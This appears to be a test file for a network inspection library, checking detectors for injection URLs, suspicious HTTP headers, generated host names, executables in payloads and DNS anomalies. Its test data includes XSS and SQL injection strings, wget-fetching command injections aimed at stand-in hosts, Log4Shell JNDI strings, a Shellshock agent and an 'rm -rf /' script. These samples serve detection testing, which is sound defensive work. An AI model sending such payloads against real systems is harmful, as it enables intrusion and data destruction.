// Every risk judged here: what fires it, and what looks like it but must not. (Those that dissectors raise: their samples.)
import { existsSync, readFileSync } from "node:fs"
import path from "node:path"
import { describe, expect, test } from "vitest"
import { protocolId, risks } from "@netweir/model"
import { ascii, ByteWindow, hex } from "../bytes/byte-window.ts"
import { parseIp } from "../addresses/ip-text.ts"
import type { HttpRecord } from "../inspect/metadata.ts"
import { noRules, type Rules } from "../inspect/rules.ts"
import { InspectionBench, type FlowSpec, type Step } from "../inspect/testing.ts"
import { DONE, MATCH, NO_MATCH, defineDissector, type Dissector, type Inspection } from "../inspect/types.ts"
import { dns } from "../dissectors/dns.ts"
import { http } from "../dissectors/http.ts"
import { wireName, wordHex } from "../inspect/samples.ts"
import { entropyOf } from "./entropy.ts"
import { isMachineGenerated } from "./hostname-risks.ts"
import { httpRisks } from "./http-risks.ts"
import { icmpDefect } from "./icmp-risks.ts"
import { injectionIn } from "./injections.ts"
import { riskConditions } from "./index.ts"
import { executableAt, isScript, looksFullyEncrypted } from "./payload-signs.ts"

test("the table has every risk of the model once, and its file raises it", () => {
  expect(riskConditions.map(({ key }) => key).toSorted()).toEqual(risks.map(({ key }) => key).toSorted())
  for (const { key, moment, file } of riskConditions) {
    if (moment === "checks") continue
    const at = path.join(import.meta.dirname, "..", file)
    expect(existsSync(at), file).toBe(true)
    const source = readFileSync(at, "utf8")
    // Some build the key or answer evidence that another file raises.
    const spelt = [key, key.replace(/(client|server)_version/, "${side}_version")].some((text) => source.includes(text))
    expect(spelt || ["tls_suspicious_extension", "fully_encrypted"].includes(key), `${key} in ${file}`).toBe(true)
  }
})

describe("URL parameters", () => {
  test.each([
    ["/?q=%3Cscript%3Ealert(1)%3C/script%3E", "url_possible_xss"],
    ["/?q=<img+src=x+onerror=alert(1)>", "url_possible_xss"],
    ["/?next=javascript:alert(document.cookie)", "url_possible_xss"],
    ["/item?id=1'+or+'1'='1", "url_possible_sql_injection"],
    ["/item?id=-1+UNION+ALL+SELECT+user,password+FROM+users--", "url_possible_sql_injection"],
    ["/item?id=1%27%3B+DROP+TABLE+users%3B--", "url_possible_sql_injection"],
    ["/item?id=1+and+sleep(5)", "url_possible_sql_injection"],
    ["/p?cmd=cat%20/etc/passwd", "url_possible_rce_injection"],
    ["/p?x=%60id%60", "url_possible_rce_injection"],
    ["/p?x=$(wget%20http://evil/x)", "url_possible_rce_injection"],
    ["/p?page=php://input", "url_possible_rce_injection"],
    ["/p?a=%2570%2568%2570%2569%256e%2566%256f()", "url_possible_rce_injection"],
    ["/p?a=;wget+http://203.0.113.9/bot.sh", "url_possible_rce_injection"],
    ["/p?q=${jndi:ldap://x}", "url_possible_rce_injection"],
    // Nothing but letters, digits and separators.
    ["/p?q=document.cookie", "url_possible_xss"],
    ["/p?q=information_schema.tables", "url_possible_sql_injection"],
    ["/p?q=sysobjects", "url_possible_sql_injection"],
    ["/p?q=pg_catalog.x", "url_possible_sql_injection"],
    ["/p?q=sqlite_master", "url_possible_sql_injection"],
    ["/p?allow_url_include=1", "url_possible_rce_injection"],
    ["/p?auto_prepend_file=x", "url_possible_rce_injection"],
    ["/p?q=java.lang.Runtime", "url_possible_rce_injection"],
    ["/c99.php?cmd=id", "url_possible_rce_injection"],
  ])("%s is %s", (url, want) => expect(injectionIn(url)?.risk).toBe(want))
  test.each([
    "/", "/search?q=union+street+hotel+selection", "/search?q=how+to+select+from+a+menu", "/?name=O'Neil", "/?q=rock+and+roll", "/?t=1%20or%202", "/?u=https://example.com/a?b=c",
    "/?q=script+writing", "/?onload=1", "/?text=drop+the+table", "/?p=cat+pictures", "/?q=system+of+a+down", "/?d=2021-01-01%2012:00", "/?x=%zz%", "/etc/passwd", "/?q=etc", "/?a=eval", "/?q=sleep+well", "/?q=echo+park",
  ])("%s is nothing", (url) => expect(injectionIn(url)).toBeNull())
  test("long and hostile parameters are judged quickly", () => {
    const start = performance.now()
    for (const part of ["' or ", "<a ", "select ", "%3C", "((((", "/*"]) injectionIn(`/?q=${part.repeat(5000)}`)
    expect(performance.now() - start).toBeLessThan(500)
  })
})

describe("HTTP", () => {
  const judge = (record: HttpRecord, serverIp = "192.0.2.1", isUpdateService = false) =>
    httpRisks.filter(({ when }) => when({ http: record, serverIp, isUpdateService }) !== null).map(({ key }) => key)
  test.each<[string, HttpRecord, string]>([
    ["shell function as agent", { userAgent: "() { :; }; echo x" }, "http_suspicious_user_agent"],
    ["random agent", { userAgent: "pwtyyEKzNtGatwnJjmCcBLbOveCVpc" }, "http_suspicious_user_agent"],
    ["short agent", { userAgent: "test" }, "http_suspicious_user_agent"],
    ["long agent", { userAgent: "Mozilla ".repeat(40) }, "http_suspicious_user_agent"],
    ["crawler", { userAgent: "Mozilla/5.0 (compatible; bingbot/2.0)" }, "http_crawler_bot"],
    ["old nginx", { server: "nginx/1.10.3" }, "http_obsolete_server"],
    ["old Apache", { server: "Apache/2.2.3 (CentOS)" }, "http_obsolete_server"],
    ["a bot's header", { suspiciousHeader: "osversion" }, "http_suspicious_header"],
    ["another address as host", { host: "203.0.113.5:80", url: "203.0.113.5:80/" }, "http_suspicious_header"],
    ["traversal", { url: "h/../../etc/shadow" }, "http_suspicious_url"],
    ["Log4Shell in the agent", { userAgent: "${jndi:ldap://203.0.113.5/a}" }, "possible_exploit"],
    ["hidden path", { url: "example.com/.git/config" }, "possible_exploit"],
    ["Windows program", { status: 200, contentType: "application/x-msdownload" }, "binary_application_transfer"],
    ["octets", { status: 200, contentType: "application/octet-stream" }, "binary_data_transfer"],
    ["a file to run", { filename: "setup.exe", contentType: "text/plain" }, "binary_data_transfer"],
  ])("%s", (_, record, want) => expect(judge(record)).toContain(want))
  test.each<[string, HttpRecord]>([
    ["a browser", { userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", host: "example.com", url: "example.com/a.b", server: "nginx/1.25.1", contentType: "text/html", status: 200 }],
    ["tools", { userAgent: "MMS-Relay-DeliveryInitiator", server: "Apache/2.4.57 (Debian)", url: "example.com/.well-known/acme" }],
    ["capitals", { userAgent: "MICROSOFT_DEVICE_METADATA_RETRIEVAL_CLIENT", server: "Apache" }],
    ["its own address as host", { userAgent: "curl/8.0", host: "192.0.2.1:8080", url: "192.0.2.1:8080/" }],
    ["a proxy request", { userAgent: "curl/8.0", host: "203.0.113.5", url: "http://203.0.113.5/" }],
    ["camel case", { userAgent: "JakartaCommonsHttpClient" }],
  ])("%s is nothing", (_, record) => expect(judge(record)).toEqual([]))
  test("updates are no surprise", () => {
    expect(judge({ status: 200, contentType: "application/x-msdownload" }, "192.0.2.1", true)).not.toContain("binary_application_transfer")
  })
})

describe("host names", () => {
  test.each(["www.e6r5p57kbafwrxj3plz.com", "q4cyamnc6mtokjurvdclt.net", "gfu7hbxpfp.com", "xjqzkvwpd3f9.biz"])("%s is machine generated", (name) => expect(isMachineGenerated(name)).toBe(true))
  test.each(["www.netflix.com", "d2v1zm8f6nqvz.cloudfront.net", "wirtschaftsministerium.de", "strengthsfinder.com", "krzysztofszczepanski.pl", "1084bets10.com", "r3---sn-5hnekn7k.googlevideo.com", "bbc.co.uk", "localhost", "1.0.0.127.in-addr.arpa", "3g2upl4pq6kufc4m.onion", "stackoverflow.com", "microsoftonline.com", ""])(
    "%s is not", (name) => expect(isMachineGenerated(name)).toBe(false))
})

describe("payloads", () => {
  const window = (bytes: Uint8Array) => {
    const made = new ByteWindow()
    made.set(bytes, 0, bytes.length)
    return made
  }
  const pe = new Uint8Array(256)
  pe.set(ascii("MZ"))
  pe[0x3c] = 0x80
  pe.set(ascii("PE\0\0"), 0x80)
  test.each<[string, Uint8Array, string | null]>([
    ["PE", pe, "Portable Executable (PE32/PE32+)"],
    ["ELF", hex("7f454c46 02 01 01 00 00000000"), "ELF executable"],
    ["Mach-O", hex("cffaedfe 07000001 03000000"), "Mach-O executable"],
    ["Dalvik", ascii("dex\n035\0xxxx"), "Dalvik executable"],
    ["text that begins with MZ", ascii(`MZ${"a".repeat(200)}`), null],
    ["ELF cut", hex("7f454c46"), null],
    ["nothing", new Uint8Array(0), null],
  ])("%s", (_, bytes, want) => expect(executableAt(window(bytes), 0)).toBe(want))
  test("scripts", () => expect(["#!/bin/sh\n", "#! /usr/bin/env python", "#!x", "# !/bin/sh", "#1 of all"].map((text) => isScript(window(ascii(text)), 0))).toEqual([true, true, false, false, false]))
  const random = Uint8Array.from({ length: 200 }, (_, i) => (Math.imul(i + 1, 2654435761) >>> 13) & 255)
  test("random bytes look encrypted; text, zeros and a printable start do not", () => {
    const greeted = Uint8Array.from(random)
    greeted.set(ascii("HELLO!!"))
    expect([random, ascii("a".repeat(200)), new Uint8Array(200), greeted, random.subarray(0, 20)].map((bytes) => looksFullyEncrypted(window(bytes)))).toEqual([true, false, false, false, false])
  })
  test("entropy", () => {
    expect(entropyOf(window(new Uint8Array(100)))).toBe(0)
    expect(entropyOf(window(Uint8Array.from({ length: 256 }, (_, i) => i)))).toBeCloseTo(8)
    expect(entropyOf(window(ascii("ab".repeat(50))))).toBeCloseTo(1)
    expect(entropyOf(window(new Uint8Array(0)))).toBe(0)
  })
})

test.each([
  [false, 8, 0, true], [false, 3, 13, true], [false, 3, 16, false], [false, 165, 0, false], [false, 0, 1, false], [true, 135, 0, true], [true, 5, 0, false], [true, 128, 0, true],
])("ICMP (v6: %s) type %i code %i exists: %s", (isV6, type, code, exists) => expect(icmpDefect(isV6, type, code) === null).toBe(exists))

// ── flows as a whole

const client = (text: string): Step => ({ from: "client", text })
const server = (text: string): Step => ({ from: "server", text })
const always = (protocol: string, take?: (seen: Inspection) => void): Dissector => defineDissector({
  protocol, transports: ["tcp", "udp"], hintPorts: [], recognise: () => MATCH,
  extract(seen) {
    take?.(seen)
    return DONE
  },
})
const nobody = defineDissector({ protocol: "RTMP", transports: ["tcp", "udp"], hintPorts: [], recognise: () => NO_MATCH })
function risksOf(dissectors: readonly Dissector[], spec: FlowSpec, steps: readonly Step[], rules: Partial<Rules> = {}): readonly string[] {
  return new InspectionBench(dissectors, { judgeFlows: true, rules: { ...noRules, ...rules } }).run(spec, steps).risks
}
const both = [client("x"), server("y")]
const noise = Uint8Array.from({ length: 300 }, (_, i) => (Math.imul(i + 1, 2654435761) >>> 13) & 255)

describe("flows", () => {
  test.each<[string, readonly Dissector[], FlowSpec, readonly Step[], string]>([
    ["a protocol elsewhere", [always("SSH")], { serverPort: 2022 }, both, "known_protocol_on_non_standard_port"],
    ["an unsafe protocol", [always("Telnet")], { serverPort: 23 }, both, "unsafe_protocol"],
    ["a desktop", [always("VNC")], { serverPort: 5900 }, both, "desktop_or_file_sharing_session"],
    ["no answer", [always("DNS")], { transport: "udp", serverPort: 53 }, [client("x")], "unidirectional_traffic"],
    ["noise", [nobody], { transport: "udp", serverPort: 40_000 }, [{ from: "client", bytes: noise }], "suspicious_entropy"],
    ["noise over TCP", [nobody], { serverPort: 40_000 }, [{ from: "client", bytes: noise }], "fully_encrypted"],
    ["a script", [nobody], { serverPort: 40_000 }, [client("#!/bin/sh\nrm -rf /\n")], "possible_exploit"],
    ["a program", [nobody], { serverPort: 40_000 }, [{ from: "server", bytes: hex("7f454c46 02 01 01 00 00000000") }], "binary_application_transfer"],
    ["no DNS on its port", [nobody], { transport: "udp", serverPort: 53 }, [client("hello")], "malformed_packet"],
    ["punycode", [always("TLS", (seen) => seen.setHostname("www.xn--mnich-kva.com"))], { serverPort: 443 }, both, "punycode_idn"],
    ["an address as server name", [always("TLS", (seen) => seen.setHostname("192.0.2.7"))], { serverPort: 443 }, both, "numeric_ip_host"],
    ["a generated name", [always("TLS", (seen) => seen.setHostname("www.e6r5p57kbafwrxj3plz.com"))], { serverPort: 443 }, both, "suspicious_dga_domain"],
    ["odd characters", [always("DNS", (seen) => seen.setHostname("a\u0007b.example.com"))], { transport: "udp", serverPort: 53 }, both, "invalid_characters"],
    ["one side speaks SSH", [always("SSH")], { serverPort: 22 }, [client("x")], "unidirectional_traffic"],
  ])("%s", (_, dissectors, spec, steps, want) => {
    // The bench's server always answers a SYN: a one-sided flow is one without handshake.
    const oneSided = want === "unidirectional_traffic" ? { ...spec, midstream: true } : spec
    expect(risksOf(dissectors, oneSided, steps)).toContain(want)
  })
  test.each<[string, readonly Dissector[], FlowSpec, readonly Step[]]>([
    ["a protocol at home", [always("SSH")], { serverPort: 22 }, both],
    ["multicast", [always("SSDP")], { transport: "udp", serverIp: "239.255.255.250", serverPort: 1900 }, [client("x")]],
    ["broadcast", [always("DHCP")], { transport: "udp", serverIp: "255.255.255.255", serverPort: 67, clientPort: 68 }, [client("x")]],
    ["media", [always("RTP")], { transport: "udp", serverPort: 40_000 }, [client("x")]],
    ["DNS over TLS", [always("TLS", (seen) => seen.setApp("DoH_DoT"))], { serverPort: 853 }, both],
    ["FTP data", [always("FTP_DATA")], { serverPort: 50_001 }, both],
    ["text", [nobody], { serverPort: 40_000 }, [client("hello, how are you, what shall we do today, and where?")]],
    ["a plain name", [always("TLS", (seen) => seen.setHostname("www.example.com"))], { serverPort: 443 }, both],
    ["an encrypted protocol by port", [nobody], { serverPort: 443, midstream: true }, [{ from: "client", bytes: noise }, server("x")]],
  ])("%s is nothing", (_, dissectors, spec, steps) => expect(risksOf(dissectors, spec, steps)).toEqual([]))

  const aim = (ip: string) => {
    const words = new Uint32Array(4)
    parseIp(ip, words)
    return (key: Uint32Array, at: number) => words.every((word, i) => key[at + i] === word)
  }
  test.each<[string, Partial<Rules>, (seen: Inspection) => void, string]>([
    ["listed JA3", { badJa3: (ja3) => (ja3 === "x" ? "Bot" : null) }, (seen) => { seen.metadata.tls = { ja3: "x" } }, "malicious_fingerprint"],
    ["listed JA4", { badJa4: (ja4) => (ja4 === "x" ? "Bot" : null) }, (seen) => { seen.metadata.tls = { ja4: "x" } }, "malicious_fingerprint"],
    ["listed certificate", { badCertificate: () => "C&C" }, (seen) => { seen.metadata.tls = { certificateSha1: "x" } }, "malicious_sha1_certificate"],
    ["risky domain", { isRiskyDomain: (name) => name.endsWith(".tk") }, (seen) => seen.setHostname("x.tk"), "risky_domain"],
    ["malware address", { addressCategory: (words, at) => (aim("198.51.100.20")(words, at) ? 100 : 0) }, () => {}, "malware_host_contacted"],
    ["malware host", { hostname: (name) => (name === "bad.example" ? { protocol: 0, category: 100, breed: "", pattern: name, level: 2 } : null) }, (seen) => seen.setHostname("bad.example"), "malware_host_contacted"],
    ["anonymous client", { isAnonymous: aim("192.0.2.10") }, () => {}, "anonymous_subscriber"],
  ])("by rule: %s", (_, rules, take, want) => {
    expect(risksOf([always("TLS", take)], { serverPort: 443 }, both, rules)).toEqual([want])
    expect(risksOf([always("TLS", take)], { serverPort: 443 }, both)).not.toContain(want)
  })
  test("a malware address that calls is not one that was called", () => {
    expect(risksOf([always("TLS")], { serverPort: 443 }, both, { addressCategory: (words, at) => (aim("192.0.2.10")(words, at) ? 100 : 0) })).toEqual([])
  })
  test("AS numbers", () => {
    const bench = new InspectionBench([always("TLS")], { judgeFlows: true, asnOf: () => 64500, rules: { ...noRules, hasRiskyAsns: true, isRiskyAsn: (asn) => asn === 64500 } })
    expect(bench.run({ serverPort: 443 }, both).risks).toEqual(["risky_asn"])
  })
  test("exceptions keep risks from being raised", () => {
    expect(risksOf([always("Telnet")], { serverPort: 23 }, both, { hasExceptions: true, mayRaise: () => false })).toEqual([])
  })
  test("rules change while flows are inspected", () => {
    const bench = new InspectionBench([always("TLS", (seen) => seen.setHostname("x.tk"))], { judgeFlows: true })
    expect(bench.run({ serverPort: 443 }, both).risks).toEqual([])
    bench.inspector.setRules({ ...noRules, isRiskyDomain: () => true })
    expect(bench.run({ serverPort: 443 }, both).risks).toEqual(["risky_domain"])
  })
  test("a user's address rule names the application; content still names what it runs over", () => {
    const bench = new InspectionBench([always("TLS", (seen) => seen.setHostname("www.netflix.com"))], { rules: { ...noRules, addressProtocol: () => protocolId("Zoom") } })
    expect(bench.run({ serverPort: 443 }, both)).toMatchObject({ app: "TLS.Zoom", confidence: "user-rule", hostname: "www.netflix.com" })
  })
})

describe("messages", () => {
  const question = (name: string, type = 1, rest = "") => `1234 0100 0001 0000 0000 0000 ${wireName(name)}${wordHex(type)}0001${rest}`
  const answer = (ttl: string, size = 4, data = "c0000201") => `1234 8180 0001 0001 0000 0000 ${wireName("a.example")}00010001 c00c 0001 0001 ${ttl} ${wordHex(size)} ${data}`
  const ask = (steps: readonly Step[]) => risksOf([dns], { transport: "udp", serverPort: 53 }, steps)
  const asked: Step = { from: "client", hex: question("a.example") }
  test.each<[string, readonly Step[], readonly string[]]>([
    ["plain", [asked, { from: "server", hex: answer("0000003c") }], []],
    ["zero TTL", [asked, { from: "server", hex: answer("00000000") }], ["minor_issues"]],
    ["length behind the end", [asked, { from: "server", hex: answer("0000003c", 400) }], ["malformed_packet"]],
    ["obsolete type", [{ from: "client", hex: question("a.example", 10) }, { from: "server", hex: answer("0000003c") }], ["dns_suspicious_traffic"]],
    ["long label", [{ from: "client", hex: question(`${"ab".repeat(28)}.example`) }, { from: "server", hex: answer("0000003c") }], ["dns_suspicious_traffic"]],
    ["large", [asked, { from: "server", hex: `${answer("0000003c")}${"00".repeat(600)}` }], ["dns_large_packet"]],
  ])("DNS: %s", (_, steps, want) => expect(ask(steps)).toEqual(want))

  const request = client("GET /x HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.0\r\n\r\n")
  const reply = (type: string, body: string) => server(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\n\r\n${body}`)
  test.each<[string, readonly Step[], readonly string[]]>([
    ["a page", [request, reply("text/html", "<html>")], []],
    ["a page in a packet of its own", [request, reply("text/html", ""), server("<html>")], []],
    ["no text", [request, reply("application/json", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008")], ["http_suspicious_content"]],
    ["a program as a picture", [request, reply("image/png", ""), { from: "server", bytes: hex("7f454c46 02 01 01 00 00000000") }], ["binary_application_transfer"]],
    ["Log4Shell in a form", [client("POST /login HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.0\r\nContent-Type: text/plain\r\n\r\nu=${jndi:ldap://203.0.113.9/a}"), reply("text/html", "no")], ["possible_exploit"]],
    ["Log4Shell in a header", [client("GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.0\r\nX-Api-Version: ${jndi:ldap://203.0.113.9/a}\r\n\r\n"), reply("text/html", "no")], ["possible_exploit"]],
    ["a bot's header", [client("GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.0\r\nOsname: Linux\r\n\r\n"), reply("text/html", "no")], ["http_suspicious_header"]],
  ])("HTTP: %s", (_, steps, want) => expect(risksOf([http], { serverPort: 80 }, steps)).toEqual(want))
})

